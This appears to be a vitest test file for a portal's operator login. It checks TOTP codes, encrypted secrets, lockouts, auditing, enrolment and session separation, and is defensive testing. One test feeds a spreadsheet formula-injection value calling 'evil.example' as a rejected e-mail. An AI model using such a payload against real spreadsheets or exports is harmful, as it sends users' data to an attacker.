import { WRONG_OPERATOR_CREDENTIALS } from '@portal/contract';
import { describe, expect, it } from 'vitest';
import { appPerTest } from '../../../test/build-app.js';
import { loginAs, loginAsOperator, TestClient } from '../../../test/client.js';
import { totpCode, totpStep } from '../../lib/totp.js';
import { openTotpSecret } from '../../lib/totp-secrets.js';
import { DEMO_TOTP_SECRET } from '../../seed/demo-operators.js';
import { operatorCookieName } from '../../plugins/session/operator-session.plugin.js';

const t = appPerTest();

const code = (at = t.clock.now()) => totpCode(DEMO_TOTP_SECRET, at);
const auditActions = async () =>
  (await t.db.selectFrom('audit_log').select(['action', 'operator_email']).orderBy('id').execute()).map(
    (row) => `${row.action} ${row.operator_email}`,
  );

describe('POST /api/admin/login', () => {
  it('signs a demo operator in with a code of the demo secret, in a cookie of its own', async () => {
    const client = new TestClient(t.app);
    const response = await client.post('/api/admin/login', {
      email: ' Admin@demo.pl',
      password: 'Demo!2025',
      code: code(),
    });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({
      success: true,
      operator: { id: expect.any(Number), email: 'admin@demo.pl', name: 'Anna Administratorka', role: 'admin' },
    });
    expect(response.cookies.find((cookie) => cookie.name === operatorCookieName(false))).toMatchObject({
      httpOnly: true,
      sameSite: 'Strict',
    });
    expect((await client.get('/api/admin/me')).json().operator.role).toBe('admin');
    // The operator's session is no participant's.
    expect((await client.get('/api/user')).json()).toEqual({ success: true, user: null });
    expect(await auditActions()).toEqual(['operator.login admin@demo.pl']);
  });

  it('keeps the TOTP secrets encrypted: the table holds no base32 secret, and sign-in still works', async () => {
    const rows = await t.db.selectFrom('operators').select(['email', 'totp_secret']).execute();
    expect(rows).toHaveLength(3);
    for (const row of rows) {
      expect(row.totp_secret).toMatch(/^v1:/);
      expect(row.totp_secret).not.toContain(DEMO_TOTP_SECRET);
    }
    const response = await new TestClient(t.app).post('/api/admin/login', {
      email: 'admin@demo.pl',
      password: 'Demo!2025',
      code: code(),
    });
    expect(response.statusCode).toBe(200);
  });

  it('takes a code of the previous or next step, and refuses an older one and a reused one', async () => {
    const previous = code(new Date(t.clock.now().getTime() - 30_000));
    expect(
      (
        await new TestClient(t.app).post('/api/admin/login', {
          email: 'obsluga@demo.pl',
          password: 'Demo!2025',
          code: previous,
        })
      ).statusCode,
    ).toBe(200);
    // The same code again: refused, as is any code of a step already used.
    const again = await new TestClient(t.app).post('/api/admin/login', {
      email: 'obsluga@demo.pl',
      password: 'Demo!2025',
      code: previous,
    });
    expect(again.statusCode).toBe(422);
    const old = code(new Date(t.clock.now().getTime() - 90_000));
    expect(
      (
        await new TestClient(t.app).post('/api/admin/login', {
          email: 'raporty@demo.pl',
          password: 'Demo!2025',
          code: old,
        })
      ).statusCode,
    ).toBe(422);
    expect(totpStep(DEMO_TOTP_SECRET, code(), t.clock.now())).toBe(Math.floor(t.clock.now().getTime() / 30_000));
  });

  it('answers one message on the e-mail for a wrong e-mail, password or code, and audits each failure', async () => {
    const attempts = [
      { email: 'nikt@demo.pl', password: 'Demo!2025', code: code() },
      { email: 'admin@demo.pl', password: 'Zle!haslo1', code: code() },
      { email: 'admin@demo.pl', password: 'Demo!2025', code: code() === '000000' ? '111111' : '000000' },
    ];
    for (const body of attempts) {
      const response = await new TestClient(t.app).post('/api/admin/login', body);
      expect(response.statusCode).toBe(422);
      expect(response.json()).toMatchObject({ success: false, errors: { email: [WRONG_OPERATOR_CREDENTIALS] } });
      expect(response.cookies.find((cookie) => cookie.name === operatorCookieName(false))).toBeUndefined();
    }
    expect(await auditActions()).toEqual([
      'operator.login_failed nikt@demo.pl',
      'operator.login_failed admin@demo.pl',
      'operator.login_failed admin@demo.pl',
    ]);
    const details = await t.db.selectFrom('audit_log').select('details').execute();
    expect(details.map((row) => row.details).join()).not.toContain('Zle!haslo1');
  });

  it('refuses an e-mail that is no e-mail address with 422 on email, audits and counts nothing', async () => {
    for (const email of ['=HYPERLINK("https://evil.example/?x="&A2,"x")', 'admin', 'admin@demo']) {
      const response = await new TestClient(t.app).post('/api/admin/login', { email, password: 'zle', code: code() });
      expect(response.statusCode, email).toBe(422);
      expect(response.json().errors, email).toEqual({ email: ['Podaj poprawny adres e-mail.'] });
      const enrolment = await new TestClient(t.app).post('/api/admin/login/enrolment', { email, password: 'zle' });
      expect(enrolment.json().errors, email).toEqual({ email: ['Podaj poprawny adres e-mail.'] });
    }
    expect(await auditActions()).toEqual([]);
    expect(await t.db.selectFrom('rate_limits').select('key').where('key', 'like', 'admin-login%').execute()).toEqual(
      [],
    );
  });

  it('locks an account after 5 failed sign-ins within 15 minutes, even with the right code', async () => {
    for (let i = 0; i < 5; i++) {
      const response = await new TestClient(t.app).post('/api/admin/login', {
        email: 'admin@demo.pl',
        password: 'zle',
        code: code(),
      });
      expect(response.statusCode).toBe(422);
    }
    const locked = await new TestClient(t.app).post('/api/admin/login', {
      email: 'admin@demo.pl',
      password: 'Demo!2025',
      code: code(),
    });
    expect(locked.statusCode).toBe(429);
    expect(locked.json().message).toMatch(/^Zbyt wiele nieudanych prób logowania\. Spróbuj ponownie za \d+ min\.$/);
    t.clock.advance(15 * 60_000 + 1000);
    expect(
      (
        await new TestClient(t.app).post('/api/admin/login', {
          email: 'admin@demo.pl',
          password: 'Demo!2025',
          code: code(),
        })
      ).statusCode,
    ).toBe(200);
  });

  it('locks wrong codes after a right password as docs/product/back-office.md says, then longer after each, until a right code', async () => {
    const wrongCode = () => (code() === '000000' ? '111111' : '000000');
    const signIn = (totp: string) =>
      new TestClient(t.app).post('/api/admin/login', { email: 'obsluga@demo.pl', password: 'Demo!2025', code: totp });
    const lockMails = () =>
      t.db
        .selectFrom('outbox')
        .select(['recipient', 'subject', 'body'])
        .where('subject', 'like', 'Zablokowane logowanie%')
        .orderBy('id')
        .execute();
    const expectLocked = async (seconds: number) => {
      const locked = await signIn(code());
      expect(locked.statusCode).toBe(429);
      expect(locked.json().message).toBe(
        seconds < 3600
          ? `Zbyt wiele nieudanych prób logowania. Spróbuj ponownie za ${seconds / 60} min.`
          : `Zbyt wiele nieudanych prób logowania. Spróbuj ponownie za ${seconds / 3600} godz.`,
      );
      expect(Number(locked.headers['retry-after'])).toBe(seconds);
    };

    // The first lock: five failures, then 15 minutes, the right code refused too.
    for (let i = 0; i < 5; i++) expect((await signIn(wrongCode())).statusCode).toBe(422);
    await expectLocked(15 * 60);
    // The admins hear of it once, however often the locked account is tried.
    await expectLocked(15 * 60);
    expect(await lockMails()).toEqual([
      {
        recipient: 'admin@demo.pl',
        subject: 'Zablokowane logowanie do panelu: obsluga@demo.pl',
        body: expect.stringContaining('15 min'),
      },
    ]);

    // Each wrong code after a lock locks twice as long: 30 minutes, then an hour.
    for (const minutes of [30, 60]) {
      t.clock.advance((minutes / 2) * 60_000);
      expect((await signIn(wrongCode())).statusCode).toBe(422);
      await expectLocked(minutes * 60);
    }
    expect((await lockMails()).map((mail) => mail.body)).toEqual([
      expect.stringContaining('15 min'),
      expect.stringContaining('30 min'),
      expect.stringContaining('zablokowane na 1 godz.:'),
    ]);
    const audited = await t.db
      .selectFrom('audit_log')
      .select('action')
      .where('action', '=', 'operator.login_locked')
      .execute();
    expect(audited).toHaveLength(3);

    // Only a right code ends the build-up: the next failures start from the first lock again.
    t.clock.advance(60 * 60_000);
    expect((await signIn(code())).statusCode).toBe(200);
    t.clock.advance(30_000);
    for (let i = 0; i < 5; i++) expect((await signIn(wrongCode())).statusCode).toBe(422);
    await expectLocked(15 * 60);
  });

  it('caps the growing lock at 24 hours', async () => {
    const wrongCode = () => (code() === '000000' ? '111111' : '000000');
    const signIn = (totp: string) =>
      new TestClient(t.app).post('/api/admin/login', { email: 'obsluga@demo.pl', password: 'Demo!2025', code: totp });
    for (let i = 0; i < 5; i++) await signIn(wrongCode());
    let lock = 15 * 60;
    for (let i = 0; i < 8; i++) {
      t.clock.advance(lock * 1000);
      expect((await signIn(wrongCode())).statusCode).toBe(422);
      lock = Math.min(lock * 2, 24 * 3600);
    }
    const locked = await signIn(code());
    expect(locked.statusCode).toBe(429);
    expect(Number(locked.headers['retry-after'])).toBe(24 * 3600);
    expect(locked.json().message).toBe('Zbyt wiele nieudanych prób logowania. Spróbuj ponownie za 24 godz.');
  });

  it('locks an address after 20 failed sign-ins of any accounts', async () => {
    for (let i = 0; i < 20; i++) {
      await new TestClient(t.app).post(
        '/api/admin/login',
        { email: `nikt${i}@demo.pl`, password: 'zle', code: code() },
        { remoteAddress: '203.0.113.7' },
      );
    }
    const locked = await new TestClient(t.app).post(
      '/api/admin/login',
      { email: 'admin@demo.pl', password: 'Demo!2025', code: code() },
      { remoteAddress: '203.0.113.7' },
    );
    expect(locked.statusCode).toBe(429);
    const elsewhere = await new TestClient(t.app).post(
      '/api/admin/login',
      { email: 'admin@demo.pl', password: 'Demo!2025', code: code() },
      { remoteAddress: '203.0.113.8' },
    );
    expect(elsewhere.statusCode).toBe(200);
  });

  it('enrols an operator without a secret: the QR code first, the secret kept only after a right code', async () => {
    await t.db.updateTable('operators').set({ totp_secret: null }).where('email', '=', 'raporty@demo.pl').execute();
    const client = new TestClient(t.app);
    const enrolment = await client.post('/api/admin/login/enrolment', {
      email: 'raporty@demo.pl',
      password: 'Demo!2025',
    });
    expect(enrolment.statusCode).toBe(200);
    const { secret, uri, qr_svg } = enrolment.json().enrolment;
    expect(uri).toMatch(/^otpauth:\/\/totp\/.*raporty%40demo\.pl\?.*secret=/);
    expect(qr_svg).toContain('<svg');
    const stored = () =>
      t.db
        .selectFrom('operators')
        .select(['totp_secret'])
        .where('email', '=', 'raporty@demo.pl')
        .executeTakeFirstOrThrow();
    expect((await stored()).totp_secret).toBeNull();

    const wrong = await client.post('/api/admin/login', {
      email: 'raporty@demo.pl',
      password: 'Demo!2025',
      code: code(),
    });
    expect(wrong.statusCode).toBe(422);
    expect((await stored()).totp_secret).toBeNull();

    const right = await client.post('/api/admin/login', {
      email: 'raporty@demo.pl',
      password: 'Demo!2025',
      code: totpCode(secret, t.clock.now()),
    });
    expect(right.statusCode).toBe(200);
    const kept = (await stored()).totp_secret!;
    expect(kept).not.toContain(secret);
    expect(openTotpSecret(kept, t.app.config.TOTP_SECRET_KEY)).toBe(secret);
    // Enrolled: no second enrolment without an admin's reset.
    expect(
      (await client.post('/api/admin/login/enrolment', { email: 'raporty@demo.pl', password: 'Demo!2025' })).statusCode,
    ).toBe(422);
  });
});

describe('operator sessions', () => {
  it('end after 30 minutes idle and after 8 hours in all', async () => {
    const client = await loginAsOperator(t.app, t.db, t.clock, 'obsluga@demo.pl');
    t.clock.advance(29 * 60_000);
    expect((await client.get('/api/admin/me')).statusCode).toBe(200);
    t.clock.advance(31 * 60_000);
    expect((await client.get('/api/admin/me')).statusCode).toBe(401);

    const busy = await loginAsOperator(t.app, t.db, t.clock, 'obsluga@demo.pl');
    for (let minutes = 0; minutes < 8 * 60; minutes += 20) {
      t.clock.advance(20 * 60_000);
      const me = await busy.get('/api/admin/me');
      expect(me.statusCode).toBe(minutes + 20 <= 8 * 60 ? 200 : 401);
    }
    t.clock.advance(20 * 60_000);
    expect((await busy.get('/api/admin/me')).statusCode).toBe(401);
  });

  it('ends on the server at logout, audited', async () => {
    const client = await loginAsOperator(t.app, t.db, t.clock, 'raporty@demo.pl');
    const cookie = client.cookies.get(operatorCookieName(false))!;
    expect((await client.post('/api/admin/logout')).json()).toEqual({ success: true });
    const replayed = new TestClient(t.app);
    replayed.cookies.set(operatorCookieName(false), cookie);
    expect((await replayed.get('/api/admin/me')).statusCode).toBe(401);
    expect(await auditActions()).toEqual(['operator.login raporty@demo.pl', 'operator.logout raporty@demo.pl']);
  });

  it("keeps participants' and operators' sessions apart", async () => {
    const participant = await loginAs(t.app, 'lider@demo.pl');
    expect((await participant.get('/api/admin/me')).statusCode).toBe(401);
    const operator = await loginAsOperator(t.app, t.db, t.clock, 'admin@demo.pl');
    expect((await operator.get('/api/account')).statusCode).toBe(401);
    // One browser with both: each side sees only its own.
    for (const [name, value] of participant.cookies) operator.cookies.set(name, value);
    expect((await operator.get('/api/admin/me')).json().operator.email).toBe('admin@demo.pl');
    expect((await operator.get('/api/user')).json().user.email).toBe('lider@demo.pl');
  });
});
